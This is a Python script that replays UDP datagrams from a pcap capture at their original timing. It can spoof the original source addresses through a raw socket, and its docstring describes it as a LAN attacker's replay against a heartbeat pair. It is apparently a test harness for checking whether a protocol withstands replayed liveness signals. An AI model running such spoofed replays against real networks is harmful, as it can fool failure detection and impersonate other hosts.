#!/usr/bin/env python3
"""Replays the IPv4 UDP datagrams of a pcap file (as `tcpdump -w` writes it) at their pace.

What a LAN attacker with a recording of the pair's traffic can do: send it again while a node is
frozen, hoping the peer takes it for a sign of life.

  replay.py FILE [--spoof] [--times N]

Without --spoof each datagram goes from this host's own address to its original destination;
with --spoof it goes with its original source address (a raw socket; needs CAP_NET_RAW). Prints
how many datagrams it sent.
"""
import socket
import struct
import sys
import time

LINK_HEADER = {1: 14, 113: 16, 276: 20}  # Ethernet, Linux cooked (SLL), SLL2


def datagrams(path):
    with open(path, "rb") as f:
        head = f.read(24)
        magic = struct.unpack("<I", head[:4])[0]
        order = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
        nano = magic in (0xA1B23C4D, 0x4D3CB2A1)
        link = struct.unpack(order + "I", head[20:24])[0]
        if link not in LINK_HEADER:
            sys.exit("replay.py: unsupported link type %d" % link)
        while True:
            h = f.read(16)
            if len(h) < 16:
                return
            sec, frac, caught, _ = struct.unpack(order + "IIII", h)
            frame = f.read(caught)
            ip = frame[LINK_HEADER[link]:]
            if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != 17:
                continue
            ihl = (ip[0] & 0x0F) * 4
            src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
            sport, dport, length = struct.unpack("!HHH", ip[ihl:ihl + 6])
            payload = ip[ihl + 8:ihl + length]
            yield sec + frac / (1e9 if nano else 1e6), src, dst, sport, dport, payload


def spoofed(src, dst, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no checksum: allowed
    total = 20 + len(udp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main():
    args = sys.argv[1:]
    if not args:
        sys.exit(__doc__)
    path, spoof = args[0], "--spoof" in args
    times = int(args[args.index("--times") + 1]) if "--times" in args else 1
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) if spoof else None
    recorded = list(datagrams(path))
    sent = 0
    for _ in range(times):
        start, first = time.monotonic(), recorded[0][0] if recorded else 0
        for t, src, dst, sport, dport, payload in recorded:
            delay = (t - first) - (time.monotonic() - start)
            if delay > 0:
                time.sleep(delay)
            try:
                if raw:
                    raw.sendto(spoofed(src, dst, sport, dport, payload), (dst, 0))
                else:
                    plain.sendto(payload, (dst, dport))
                sent += 1
            except OSError:
                pass
    print("sent %d" % sent)


if __name__ == "__main__":
    main()
